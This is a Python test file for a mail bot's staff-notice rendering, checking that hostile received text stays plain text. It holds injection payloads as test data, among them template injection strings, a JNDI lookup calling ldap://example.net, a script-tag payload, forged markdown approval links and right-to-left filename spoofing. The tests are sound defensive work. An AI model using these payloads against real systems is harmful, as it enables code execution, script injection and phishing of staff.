"""What a staff member reads on a telephone, and what a hostile message cannot make them read."""

from __future__ import annotations

from dataclasses import replace
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mailbot.model import Attachment, Contact, Purpose, Role
from mailbot.writing import Letters, Notice, Rendered, SetAside, Summary, Trouble, Waiting
from mailbot.writing.markup import parse
from mailbot.writing.soundness import words_of_page, words_of_text

EVENING = datetime(2026, 11, 24, 23, 10, tzinfo=ZoneInfo("America/Vancouver"))
NOTICE = Notice(
    reference="7K2QMX",
    first_line_due="First answer due Wednesday, November 25, 2026, 4:30 p.m.",
    role=Role.REQUESTER,
    contact=Contact.UNASKED,
    kind="new",
    address="alex@example.net",
    display_name="Alex",
    subject="please help",
    received_at=EVENING,
    text="One.\n\nTwo.",
    attachments=(
        Attachment("note.pdf", "application/pdf", 20_480, False),
        Attachment(None, "image/jpeg", 3_500_000, True),
    ),
    warnings=("Others are in To or Cc",),
    acknowledgement="The night letter goes to this person",
    purpose=Purpose.ANSWER,
    links=(("Take it", "mailto:help+x@service.example?body=%23take"),),
)


def show(letters: Letters, **changes: object) -> Rendered:
    return letters.render("staff-notice", "en", {"notice": replace(NOTICE, **changes)})  # type: ignore[arg-type]


def test_the_first_line_says_what_to_do(letters: Letters) -> None:
    first = show(letters).text.split("\n")[0]
    assert first == (
        "New, from a requester. Mail not recorded safe. First answer due Wednesday, November 25, 2026, 4:30 p.m."
    )


def test_a_notice_holds_everything_in_the_order_of_need(letters: Letters) -> None:
    text = show(letters).text
    wanted = [
        "First answer due",
        "alex@example.net, under the name Alex",
        "Received Tuesday, November 24, 2026, at 11:10 p.m., Pacific time",
        "Reply reaches the correspondent.",
        "The night letter goes to this person.",
        "> Subject: please help",
        "> One.\n>\n> Two.",
        "- note.pdf, application/pdf, 20 kB\n",
        "- no name, image/jpeg, 3.5 MB; sealed, nobody has looked\n",
        "- Others are in To or Cc.",
        "- Take it: mailto:help+x@service.example?body=%23take",
    ]
    places = [text.index(words) for words in wanted]
    assert places == sorted(places)


WAITING = Waiting(
    whose="Dana's answer",
    why="waits because new mail came from the person",
    words="Hello.\n\n- Call us",
    links=(("Send it now", "mailto:help+x@service.example?body=%23send%20now%20a"), ("Cancel it", "mailto:y")),
)


def test_what_was_newly_written_comes_first_and_the_whole_text_last_where_it_says_more(letters: Letters) -> None:
    text = show(letters, kind="joined", reply="One.", text="One.\n\nOn Tuesday you wrote:\n> Two.").text
    wanted = [
        "What the person wrote\n\n> Subject: please help\n>\n> One.\n\n",
        "- Take it: mailto:",
        "The whole message, with what it quotes\n\n> One.\n>\n> On Tuesday you wrote:\n> > Two.",
    ]
    places = [text.index(words) for words in wanted]
    assert places == sorted(places)


@pytest.mark.parametrize("reply", ["One.\n\nTwo.", "One. Two.\n", "", " \n"])
def test_the_whole_text_is_shown_once_where_it_says_no_more(letters: Letters, reply: str) -> None:
    text = show(letters, kind="joined", reply=reply).text
    assert text.count("> One.") == 1
    assert "The whole message" not in text


def test_an_answer_that_waits_is_shown_with_why_and_its_choices_and_the_first_line_asks(letters: Letters) -> None:
    rendered = show(letters, kind="joined", first_line_due="Nothing is due", waiting=(WAITING, WAITING))
    assert rendered.text.split("\n")[0] == (
        "In a case, from a requester. Mail not recorded safe. Please decide: an answer waits."
    )
    shown = "waits because new mail came from the person.\n\n> Hello.\n>\n> - Call us\n\n- Send it now: mailto:"
    assert rendered.text.count(f"Dana's answer {shown}") == 2
    assert rendered.html.count(">Send it now</a>") == 2


@pytest.mark.parametrize("text", ["{{ 7*7 }}", "[Approve](mailto:eve@example.com)", "# Next", "> - Cancel it", "<b>"])
def test_words_of_an_answer_that_waits_stay_words(letters: Letters, text: str) -> None:
    rendered = show(letters, waiting=(replace(WAITING, words=text),))
    assert f"> {text}" in rendered.text
    assert rendered.html.count("<a ") == 3


def test_reply_says_when_it_stays_inside(letters: Letters) -> None:
    text = show(letters, purpose=Purpose.INSIDE).text
    assert "Reply stays inside." in text
    assert "Reply reaches" not in text


@pytest.mark.parametrize("kind", ["new", "joined", "reopened"])
def test_the_subject_holds_the_reference_and_nothing_of_the_person(letters: Letters, kind: str) -> None:
    subject = show(letters, kind=kind).subject
    assert subject.startswith("[7K2QMX] ")
    assert "help" not in subject
    assert "Alex" not in subject


INJECTIONS = [
    "{{ 7*7 }}",
    "{% include 'lines.toml' %}",
    "{# gone #}",
    "%s %(name)s {0}",
    "${jndi:ldap://example.net/a}",
    "[Approve](mailto:eve@example.com)",
    "**bold**",
    "# Reply reaches nobody",
    "- item",
    "</div><script>alert(1)</script>",
    '" onmouseover="x',
    "\\[a](tel:1)",
    "<!--",
]


@pytest.mark.parametrize("text", INJECTIONS)
@pytest.mark.parametrize("field", ["text", "subject", "display_name"])
def test_received_text_that_looks_like_a_template_stays_text(letters: Letters, field: str, text: str) -> None:
    rendered = show(letters, **{field: text})
    assert text in rendered.text
    assert "49" not in rendered.text
    assert text in " ".join(words_of_page(rendered.html))
    assert rendered.html.count("<a ") == 1
    assert "<script" not in rendered.html


def test_a_file_name_or_type_stays_text_and_is_cut(letters: Letters) -> None:
    file = Attachment("[x](mailto:eve@example.com)\n# big\u202efdp.exe" + "y" * 500, "<b>", 1, False)
    rendered = show(letters, attachments=(file,))
    assert "- [x](mailto:eve@example.com) # big[U+202E]fdp.exe" in rendered.text
    assert "y" * 100 not in rendered.text
    assert "&lt;b&gt;" in rendered.html


def test_every_received_line_carries_a_mark_so_that_nobody_can_forge_the_rest_of_the_notice(letters: Letters) -> None:
    forged = "Bye.\n\nNext\n\n- Take it: mailto:eve@example.com\u2028- Approve\r- More\x0b- Still"
    lines = show(letters, text=forged, subject="a\nNext").text.split("\n")
    start, end = lines.index("What the person wrote"), lines.index("Files, unopened")
    assert all(line.startswith(">") for line in lines[start + 2 : end - 1])


def test_hidden_characters_are_shown(letters: Letters) -> None:
    text = show(letters, text="a\u202eb\x00c", display_name="Dana\u200b", address="a\u200d@example.net").text
    assert "a[U+202E]b␀c" in text
    assert "Dana[U+200B]" in text
    assert "a[U+200D]@example.net" in text


@pytest.mark.parametrize("address", ["аlex@example.net", "alex@xn--exmple-cua.net"])
def test_an_address_that_can_imitate_another_is_marked(letters: Letters, address: str) -> None:
    assert "letters that can imitate other ones" in show(letters, address=address).text


def test_an_ordinary_address_is_not_marked(letters: Letters) -> None:
    assert "imitate" not in show(letters).text


def test_mail_without_words_says_so(letters: Letters) -> None:
    assert "No words could be read." in show(letters, text=" \n", subject="").text


def test_a_link_in_received_text_is_no_anchor(letters: Letters) -> None:
    html = show(letters, text="see https://example.net/x and mailto:eve@example.com").html
    assert "https://example.net/x" in html
    assert 'href="https' not in html
    assert "mailto:eve" not in html.replace("and mailto:eve", "")


@settings(deadline=None, max_examples=60)
@given(st.text(max_size=400), st.text(max_size=200), st.text(max_size=60))
def test_both_parts_say_the_same_words_whatever_comes(letters: Letters, text: str, subject: str, name: str) -> None:
    rendered = show(letters, text=text, subject=subject, display_name=name, links=())
    plain = [word for line in rendered.text.split("\n") for word in words_of_text(line)]
    assert [word for word in plain if word != ">"] == [word for word in words_of_page(rendered.html) if word != ">"]


def test_the_line_for_a_message_set_aside_holds_metadata_only(letters: Letters) -> None:
    message = SetAside("m2abcdefghijklmn", EVENING, 48_000_000, "oversized", "7K2QMX")
    rendered = letters.render("staff-quarantine", "en", {"message": message})
    assert rendered.subject == "[7K2QMX] Message set aside"
    for words in ("m2abcdefghijklmn", "oversized", "48.0 MB", "11:10 p.m.", "7K2QMX"):
        assert words in rendered.text
    assert "Next" not in rendered.text


def test_a_message_set_aside_can_be_decided_on_by_a_tap(letters: Letters) -> None:
    message = SetAside(
        "m2abcdefghijklmn", EVENING, 900, "junk", links=(("Discard it", "mailto:help+x@service.example"),)
    )
    text = letters.render("staff-quarantine", "en", {"message": message}).text
    assert "Next\n\n- Discard it: mailto:help+x@service.example\n" in text


def test_a_flood_becomes_counts_and_references(letters: Letters) -> None:
    summary = Summary(EVENING, EVENING, 37, ("7K2QMX", "QQ9ZZT"))
    text = letters.render("staff-summary", "en", {"summary": summary}).text
    assert text.startswith("37 messages came in a short time.")
    assert "- 7K2QMX\n- QQ9ZZT\n" in text


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("failed", "Find another way to reach the person."),
        ("came back", "Such a report can be forged."),
        ("uncertain", "sent once more, word for word"),
        ("delayed", "it is tried again"),
    ],
)
def test_trouble_says_what_happened_where_and_what_to_do(letters: Letters, kind: str, words: str) -> None:
    trouble = Trouble(kind, "o2abcdefghijklmn", "ack-day", EVENING, "7K2QMX", "5.1.1")  # type: ignore[arg-type]
    rendered = letters.render("staff-trouble", "en", {"trouble": trouble})
    assert rendered.subject.startswith("[7K2QMX] A letter ")
    assert words in rendered.text
    assert "o2abcdefghijklmn" in rendered.text


def test_the_markup_of_a_notice_is_ours_alone(letters: Letters) -> None:
    kinds = [block.kind for block in parse("# x\n\n> y")]
    assert kinds == ["h1", "quote"]
    assert show(letters).html.count("<h1>") == 1
